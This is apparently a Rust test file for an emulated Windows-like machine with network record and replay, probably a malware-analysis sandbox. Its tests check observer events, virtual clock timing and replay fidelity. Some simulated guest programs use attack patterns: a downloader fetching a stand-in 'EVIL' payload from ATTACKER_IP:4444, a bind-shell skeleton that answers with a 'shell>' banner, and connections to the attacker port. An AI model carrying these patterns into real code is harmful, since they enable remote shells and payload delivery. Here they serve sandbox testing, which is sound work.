    fn kernel_write(&mut self, _: Pid, _: &[ByteRange]) {
        self.bump("kernel_write");
    }
    fn context_switch(&mut self, _: Option<(Pid, Tid)>, _: (Pid, Tid)) {
        self.bump("context_switch");
    }
    fn console_output(&mut self, _: Pid, _: &str) {
        self.bump("console_output");
    }
    fn tick(&mut self, _: u64) {
        self.bump("tick");
    }
}

#[test]
fn unsized_observer_sees_what_a_concrete_one_sees() {
    // A scenario build receives its observer as `&mut dyn Observer` and
    // hands it to the machine as it is; a direct caller passes a concrete
    // type. Both must deliver the same events in the same numbers.
    fn drive<O: Observer + ?Sized>(obs: &mut O) -> u64 {
        let mut machine = Machine::new(MachineConfig::default());
        machine.net.add_endpoint(
            ATTACKER_IP,
            4444,
            Box::new(PayloadServer { payload: b"EVIL".to_vec() }),
        );
        machine
            .install_program("C:/dl.exe", &image_from_asm(downloader_asm()))
            .unwrap();
        machine.spawn_process("C:/dl.exe", false, None, obs).unwrap();
        assert_eq!(machine.run(5_000_000, obs), RunExit::AllExited);
        machine.ticks()
    }
    let mut concrete = EventCounts::default();
    let concrete_ticks = drive(&mut concrete);
    let mut counted = EventCounts::default();
    let unsized_obs: &mut dyn Observer = &mut counted;
    let unsized_ticks = drive(unsized_obs);

    assert_eq!(unsized_ticks, concrete_ticks);
    assert_eq!(counted.0, concrete.0);
    for event in ["on_insn", "flow_delete", "syscall_enter", "process_created", "net_rx", "net_tx"] {
        assert!(concrete.0.get(event).is_some_and(|&n| n > 0), "no {event}: {:?}", concrete.0);
    }
}

#[test]
fn bind_listen_accept_serves_inbound_connection() {
    // The guest binds :7777, listens, accepts, reads the peer's greeting,
    // echoes a banner, and exits — a bind-shell skeleton.
    let scratch = IMAGE_BASE + 0x1000;
    let mut asm = Asm::new(IMAGE_BASE);
    syscall(&mut asm, Sysno::NtSocketCreate, &[(Reg::Ebx, scratch)]);
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(&mut asm, Sysno::NtSocketBind, &[(Reg::Ecx, 7777)]);
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(&mut asm, Sysno::NtSocketListen, &[]);
    // accept -> new handle at scratch+4 (blocks until the peer dials in).
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(&mut asm, Sysno::NtSocketAccept, &[(Reg::Ecx, scratch + 4)]);
    // read the greeting
    asm.ld4(Reg::Ebx, M::abs(scratch + 4));
    syscall(
        &mut asm,
        Sysno::NtSocketRecv,
        &[(Reg::Ecx, scratch + 16), (Reg::Edx, 32), (Reg::Esi, scratch + 8)],
    );
    asm.ld4(Reg::Ecx, M::abs(scratch + 8));
    syscall(&mut asm, Sysno::NtDisplayString, &[(Reg::Ebx, scratch + 16)]);
    // answer the peer
    asm.ld4(Reg::Ebx, M::abs(scratch + 4));
    asm.mov_label(Reg::Ecx, "banner");
    syscall(&mut asm, Sysno::NtSocketSend, &[(Reg::Edx, 6), (Reg::Esi, 0)]);
    asm.hlt();
    asm.label("banner");
    asm.raw(b"shell>");

    struct Dialer;
    impl RemoteEndpoint for Dialer {
        fn on_connect(&mut self) -> Vec<Vec<u8>> {
            vec![b"knock-knock".to_vec()]
        }
        fn on_data(&mut self, _d: &[u8]) -> Vec<Vec<u8>> {
            Vec::new()
        }
    }

    // Record live.
    let mut machine = Machine::new(MachineConfig::default());
    machine
        .net
        .schedule_inbound((ATTACKER_IP, 31337), 7777, 500, Box::new(Dialer));
    machine.install_program("C:/srv.exe", &image_from_asm(asm.clone())).unwrap();
    machine.spawn_process("C:/srv.exe", false, None, &mut NullObserver).unwrap();
    assert_eq!(machine.run(5_000_000, &mut NullObserver), RunExit::AllExited);
    assert_eq!(machine.console()[0].1, "knock-knock");
    let log = machine.net.recorded().clone();

    // Replay without the dialer attached: identical.
    let config = MachineConfig::default();
    let fabric = NetworkFabric::new_replay(config.guest_ip, log);
    let mut replayed = Machine::with_fabric(config, fabric);
    replayed.install_program("C:/srv.exe", &image_from_asm(asm)).unwrap();
    replayed.spawn_process("C:/srv.exe", false, None, &mut NullObserver).unwrap();
    assert_eq!(replayed.run(5_000_000, &mut NullObserver), RunExit::AllExited);
    assert_eq!(replayed.console()[0].1, "knock-knock");
    assert!(replayed.net.divergence().is_none());
}

#[test]
fn accept_without_bind_is_rejected() {
    let scratch = IMAGE_BASE + 0x1000;
    let mut asm = Asm::new(IMAGE_BASE);
    syscall(&mut asm, Sysno::NtSocketCreate, &[(Reg::Ebx, scratch)]);
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(&mut asm, Sysno::NtSocketAccept, &[(Reg::Ecx, scratch + 4)]);
    asm.st4(M::abs(scratch + 12), Reg::Eax);
    asm.hlt();
    let mut machine = Machine::new(MachineConfig::default());
    machine.install_program("C:/srv.exe", &image_from_asm(asm)).unwrap();
    let pid = machine.spawn_process("C:/srv.exe", false, None, &mut NullObserver).unwrap();
    assert_eq!(machine.run(5_000_000, &mut NullObserver), RunExit::AllExited);
    let got = machine.read_guest(pid, scratch + 12, 4).unwrap();
    assert_eq!(
        u32::from_le_bytes(got.try_into().unwrap()),
        faros_kernel::nt::NtStatus::InvalidDeviceState as u32
    );
}

// ----------------------------------------------------------------------
// The virtual clock across idle time. Each case pins how a run ends, the
// final `ticks()` and the console order; the values are those of the
// scheduler that spun one 64-tick idle round at a time, and must not move.
// ----------------------------------------------------------------------

/// Emits `NtDisplayString` of the string at `label`.
fn print(asm: &mut Asm, label: &str, len: u32) {
    asm.mov_label(Reg::Ebx, label);
    syscall(asm, Sysno::NtDisplayString, &[(Reg::Ecx, len)]);
}

/// Prints `before`, sleeps `ticks`, prints `after`, halts.
fn sleeper_asm(ticks: u32, before: &str, after: &str) -> Asm {
    let mut asm = Asm::new(IMAGE_BASE);
    print(&mut asm, "before", before.len() as u32);
    syscall(&mut asm, Sysno::NtDelayExecution, &[(Reg::Ebx, ticks)]);
    print(&mut asm, "after", after.len() as u32);
    asm.hlt();
    asm.label("before");
    asm.raw(before.as_bytes());
    asm.label("after");
    asm.raw(after.as_bytes());
    asm
}

/// Connects to the attacker's port 4444, prints `tag`, then blocks in a
/// receive and prints what it got.
fn receiver_asm(tag: &str) -> Asm {
    let scratch = IMAGE_BASE + 0x2000;
    let mut asm = Asm::new(IMAGE_BASE);
    syscall(&mut asm, Sysno::NtSocketCreate, &[(Reg::Ebx, scratch)]);
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(
        &mut asm,
        Sysno::NtSocketConnect,
        &[(Reg::Ecx, u32::from_be_bytes(ATTACKER_IP)), (Reg::Edx, 4444)],
    );
    print(&mut asm, "tag", tag.len() as u32);
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(
        &mut asm,
        Sysno::NtSocketRecv,
        &[(Reg::Ecx, scratch + 16), (Reg::Edx, 64), (Reg::Esi, scratch + 8)],
    );
    asm.ld4(Reg::Ecx, M::abs(scratch + 8));
    syscall(&mut asm, Sysno::NtDisplayString, &[(Reg::Ebx, scratch + 16)]);
    asm.hlt();
    asm.label("tag");
    asm.raw(tag.as_bytes());
    asm
}

/// How a run ended: its exit, final `ticks()` and console lines in order.
type ClockEnd = (RunExit, u64, Vec<String>);

/// Installs and spawns `programs` in order on a machine around `fabric`
/// and runs it out.
fn run_clock(fabric: NetworkFabric, programs: &[(&str, &Asm)]) -> (ClockEnd, Machine) {
    let mut machine = Machine::with_fabric(MachineConfig::default(), fabric);
    for (path, asm) in programs {
        machine.install_program(path, &image_from_asm((*asm).clone())).unwrap();
    }
    for (path, _) in programs {
        machine.spawn_process(path, false, None, &mut NullObserver).unwrap();
    }
    let exit = machine.run(5_000_000, &mut NullObserver);
    let console = machine.console().iter().map(|(_, s)| s.clone()).collect();
    ((exit, machine.ticks(), console), machine)
}

/// Runs `programs` live with `setup` adding the remote side, then replays
/// the recorded net log with no endpoint attached; the replay must end
/// exactly as the recording did. Returns the recording's end.
fn record_and_replay_clock(
    setup: impl FnOnce(&mut NetworkFabric),
    programs: &[(&str, &Asm)],
) -> ClockEnd {
    let mut live = NetworkFabric::new_live(MachineConfig::default().guest_ip);
    setup(&mut live);
    let (recorded, machine) = run_clock(live, programs);
    let log = machine.net.recorded().clone();
    let fabric = NetworkFabric::new_replay(MachineConfig::default().guest_ip, log);
    let (replayed, machine) = run_clock(fabric, programs);
    assert!(machine.net.divergence().is_none());
    assert_eq!(replayed, recorded, "the replay ends where the recording did");
    recorded
}

fn lines(texts: &[&str]) -> Vec<String> {
    texts.iter().map(|s| s.to_string()).collect()
}

#[test]
fn sleeps_around_one_idle_round_end_on_their_pinned_ticks() {
    // One idle round is 64 ticks: sleeps of 1, 63 and 64 ticks all end
    // after the first round, 65 after the second.
    for (ticks, want) in [(1, 76), (63, 76), (64, 76), (65, 140), (150, 204)] {
        let asm = sleeper_asm(ticks, "go", "up");
        let fabric = NetworkFabric::new_live(MachineConfig::default().guest_ip);
        let (end, _) = run_clock(fabric, &[("C:/sleep.exe", &asm)]);
        assert_eq!(end, (RunExit::AllExited, want, lines(&["go", "up"])), "sleep {ticks}");
    }
}

#[test]
fn two_sleepers_with_interleaved_deadlines_wake_in_deadline_order() {
    let first = {
        let mut asm = Asm::new(IMAGE_BASE);
        syscall(&mut asm, Sysno::NtDelayExecution, &[(Reg::Ebx, 100)]);
        print(&mut asm, "a1", 2);
        syscall(&mut asm, Sysno::NtDelayExecution, &[(Reg::Ebx, 700)]);
        print(&mut asm, "a2", 2);
        asm.hlt();
        asm.label("a1");
        asm.raw(b"a1");
        asm.label("a2");
        asm.raw(b"a2");
        asm
    };
    let second = {
        let mut asm = Asm::new(IMAGE_BASE);
        syscall(&mut asm, Sysno::NtDelayExecution, &[(Reg::Ebx, 300)]);
        print(&mut asm, "b1", 2);
        syscall(&mut asm, Sysno::NtDelayExecution, &[(Reg::Ebx, 200)]);
        print(&mut asm, "b2", 2);
        asm.hlt();
        asm.label("b1");
        asm.raw(b"b1");
        asm.label("b2");
        asm.raw(b"b2");
        asm
    };
    let fabric = NetworkFabric::new_live(MachineConfig::default().guest_ip);
    let (end, _) = run_clock(fabric, &[("C:/a.exe", &first), ("C:/b.exe", &second)]);
    assert_eq!(end, (RunExit::AllExited, 862, lines(&["a1", "b1", "b2", "a2"])));
}

/// Accepts every connection and never answers.
struct Silent;

impl RemoteEndpoint for Silent {
    fn on_data(&mut self, _: &[u8]) -> Vec<Vec<u8>> {
        Vec::new()
    }
}

#[test]
fn a_sleeper_beside_a_dead_receive_wakes_then_the_machine_deadlocks() {
    let receiver = receiver_asm("waiting");
    let sleeper = sleeper_asm(5000, "zz", "awake");
    let end = record_and_replay_clock(
        |net| net.add_endpoint(ATTACKER_IP, 4444, Box::new(Silent)),
        &[("C:/recv.exe", &receiver), ("C:/sleep.exe", &sleeper)],
    );
    assert_eq!(end, (RunExit::Deadlocked, 6_405_150, lines(&["waiting", "zz", "awake"])));
}

#[test]
fn a_sleep_past_the_idle_horizon_still_deadlocks_at_the_horizon() {
    let asm = sleeper_asm(u32::MAX, "zz", "never");
    let fabric = NetworkFabric::new_live(MachineConfig::default().guest_ip);
    let (end, _) = run_clock(fabric, &[("C:/sleep.exe", &asm)]);
    assert_eq!(end, (RunExit::Deadlocked, 6_400_071, lines(&["zz"])));
}

#[test]
fn a_replayed_inbound_accept_lands_on_its_recorded_tick() {
    let scratch = IMAGE_BASE + 0x1000;
    let mut asm = Asm::new(IMAGE_BASE);
    syscall(&mut asm, Sysno::NtSocketCreate, &[(Reg::Ebx, scratch)]);
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(&mut asm, Sysno::NtSocketBind, &[(Reg::Ecx, 7777)]);
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(&mut asm, Sysno::NtSocketListen, &[]);
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(&mut asm, Sysno::NtSocketAccept, &[(Reg::Ecx, scratch + 4)]);
    asm.ld4(Reg::Ebx, M::abs(scratch + 4));
    syscall(
        &mut asm,
        Sysno::NtSocketRecv,
        &[(Reg::Ecx, scratch + 16), (Reg::Edx, 32), (Reg::Esi, scratch + 8)],
    );
    asm.ld4(Reg::Ecx, M::abs(scratch + 8));
    syscall(&mut asm, Sysno::NtDisplayString, &[(Reg::Ebx, scratch + 16)]);
    asm.hlt();

    struct Dialer;
    impl RemoteEndpoint for Dialer {
        fn on_connect(&mut self) -> Vec<Vec<u8>> {
            vec![b"knock".to_vec()]
        }
        fn on_data(&mut self, _: &[u8]) -> Vec<Vec<u8>> {
            Vec::new()
        }
    }

    let end = record_and_replay_clock(
        |net| net.schedule_inbound((ATTACKER_IP, 31337), 7777, 4000, Box::new(Dialer)),
        &[("C:/srv.exe", &asm)],
    );
    assert_eq!(end, (RunExit::AllExited, 4057, lines(&["knock"])));
}

#[test]
fn a_tick_gated_replayed_receive_lands_on_its_recorded_tick() {
    /// Pushes one chunk once the clock reaches tick 3000.
    struct Late {
        sent: bool,
    }
    impl RemoteEndpoint for Late {
        fn on_data(&mut self, _: &[u8]) -> Vec<Vec<u8>> {
            Vec::new()
        }
        fn poll(&mut self, tick: u64) -> Vec<Vec<u8>> {
            if !self.sent && tick >= 3000 {
                self.sent = true;
                vec![b"late".to_vec()]
            } else {
                Vec::new()
            }
        }
    }

    let receiver = receiver_asm("waiting");
    let sleeper = sleeper_asm(1000, "zz", "awake");
    let end = record_and_replay_clock(
        |net| net.add_endpoint(ATTACKER_IP, 4444, Box::new(Late { sent: false })),
        &[("C:/recv.exe", &receiver), ("C:/sleep.exe", &sleeper)],
    );
    assert_eq!(end, (RunExit::AllExited, 3043, lines(&["waiting", "zz", "awake", "late"])));
}
